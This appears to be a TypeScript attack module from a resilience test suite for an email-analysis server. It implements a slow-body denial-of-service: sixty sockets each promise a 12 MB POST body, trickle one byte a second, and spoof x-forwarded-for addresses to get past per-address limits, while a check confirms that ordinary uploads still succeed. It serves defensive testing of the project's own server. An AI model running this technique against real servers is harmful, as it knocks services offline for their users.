import { connect, type Socket } from 'node:net';
import { setTimeout } from 'node:timers/promises';
import { mailSource } from '../../src/server/testing/index.ts';
import type { Attack } from '../kit/attack.ts';
import { fileCheck } from '../kit/callers.ts';

const sockets = 60;
const megabyte = 1024 * 1024;
const upload = mailSource({
  headers: ['Subject: Minutes'],
  text: 'Here are the minutes of our meeting.',
  files: [{ name: 'minutes.dat', content: Buffer.alloc(megabyte / 4, 'minutes ') }],
});

/** Announces twelve megabytes and sends a byte a second; resolves with the status, or how it ended. */
const promise = (url: string, n: number, isOver: () => boolean) =>
  new Promise<string>((resolve) => {
    const { hostname, port, host } = new URL(url);
    const socket: Socket = connect(Number(port), hostname);
    let heard = '';
    socket.on('data', (text) => {
      heard += text;
    });
    socket.on('error', () => undefined);
    socket.on('close', () => {
      clearInterval(timer);
      resolve(/^HTTP\/1\.1 (\d+)/.exec(heard)?.[1] ?? 'cut off without a word');
    });
    socket.write(
      `POST /api/analyze/email HTTP/1.1\r\nhost: ${host}\r\ncontent-type: application/json\r\n` +
        `x-forwarded-for: 198.51.100.${n}\r\ncontent-length: ${12 * megabyte}\r\n\r\n{`,
    );
    const timer = setInterval(() => {
      if (isOver()) socket.destroy();
      else socket.write('"');
    }, 1000);
  });

export const attack = {
  what: `${sockets} sockets promise 12 MB each and send a byte a second`,
  others: (server) => fileCheck(server, [upload]),
  othersPerSecond: 2,
  run: async ({ server, isOver, gain }) => {
    await Promise.all(
      Array.from({ length: sockets }, async (_, n) => {
        while (!isOver()) {
          gain(await promise(server.url, n, isOver));
          await setTimeout(50);
        }
      }),
    );
  },
} satisfies Attack;
